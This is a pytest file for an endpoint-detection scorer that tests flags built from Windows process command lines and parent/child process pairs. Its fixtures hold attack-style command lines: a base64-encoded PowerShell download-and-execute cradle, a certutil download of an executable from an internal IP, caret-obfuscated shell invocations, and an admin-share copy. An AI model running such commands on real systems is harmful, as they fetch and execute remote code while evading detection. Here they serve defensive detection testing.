"""Command-line shape and parent/child block (v3)."""

from __future__ import annotations

import base64
import math

import numpy as np
import numpy.typing as npt
import pytest

from scorer.events.structs import EndpointEvent
from scorer.features.base import basename
from scorer.features.edr_cmdline import INDICATORS, NAMES, cmdline_columns, entropy
from tests.support.columns import assert_batch_equals_each_alone, flags_set


def ev(image: str, line: str | None, parent: str | None = None) -> EndpointEvent:
    return EndpointEvent(ts=1.0, host="h", event_code=1, image=image, command_line=line, parent_image=parent)


def cols(events: list[EndpointEvent]) -> dict[str, npt.NDArray[np.float64]]:
    img = [basename((e.image or "").lower()) for e in events]
    par = [basename((e.parent_image or "").lower()) for e in events]
    return cmdline_columns(events, img, par)


ENC = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x')".encode("utf-16-le")).decode()
FLAGS: list[tuple[EndpointEvent, set[str]]] = [
    (ev("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", f"powershell -nop -enc {ENC}"),
     {"cl_b64_text"}),
    (ev("C:\\Windows\\System32\\cmd.exe", "cmd /c p^o^w^e^r^s^h^e^l^l -c \"iex('a'+'b')\""), {"cl_obfuscation"}),
    (ev("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PoWeRsHeLl -CoMmAnD WrItE-HoSt"),
     {"cl_case_switching"}),
    (ev("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -c [char]73+[char]69"),
     {"cl_char_codes"}),
    (ev("C:\\Windows\\System32\\cmd.exe", "cmd /c %COMSPEC:~0,1%"), {"cl_env_var", "cl_obfuscation"}),
    (ev("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -f http://10.0.0.5/a.exe a.exe"),
     {"cl_network", "cl_lolbin_network"}),
    (ev("C:\\Windows\\System32\\cmd.exe", "cmd /c copy \\\\10.1.1.1\\c$\\x.exe ."), {"cl_network"}),
    (ev("C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\Users\\a\\notes.txt"), set()),
    (ev("C:\\Windows\\System32\\cmd.exe", "cmd.exe", "C:\\Program Files\\Microsoft Office\\WINWORD.EXE"),
     {"pc_office_shell"}),
    (ev("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell",
        "C:\\Windows\\wbem\\WmiPrvSE.exe"), {"pc_wmi_shell"}),
    (ev("C:\\Windows\\System32\\cmd.exe", "cmd", "C:\\Windows\\System32\\services.exe"), {"pc_service_shell"}),
    (ev("C:\\Windows\\System32\\a.exe", None, "C:\\Windows\\System32\\lsass.exe"), {"pc_lsass_child"}),
    (ev("C:\\Windows\\System32\\net.exe", "net", "C:\\Windows\\System32\\cmd.exe"), {"pc_script_lolbin"}),
]
SHAPE = ("cl_entropy", "cl_log_args", "cl_log_longest_arg")


@pytest.mark.parametrize(("event", "expected"), FLAGS)
def test_flags(event: EndpointEvent, expected: set[str]) -> None:
    flags = flags_set(cols, NAMES, event)
    assert flags - {*SHAPE, "cl_case_switching"} == expected - {"cl_case_switching"}
    if "cl_case_switching" in expected:
        assert cols([event])["cl_case_switching"][0] > 0.3


def test_shape() -> None:
    c = cols([ev("x.exe", "a bb cccc"), ev("x.exe", None)])
    assert c["cl_log_args"].tolist() == [math.log1p(3), 0.0]
    assert c["cl_log_longest_arg"].tolist() == [math.log1p(4), 0.0]
    assert entropy("aaaa") == 0.0 and entropy("ab") == 1.0 and c["cl_entropy"][1] == 0.0
    assert cols([ev("x.exe", "C:\\Windows\\System32\\svchost.exe -k netsvcs -p")])["cl_case_switching"][0] < 0.1


def test_batch_equals_each_event_alone() -> None:
    assert_batch_equals_each_alone(cols, NAMES, [e for e, _ in FLAGS] * 2)
    assert set(INDICATORS) <= set(NAMES)
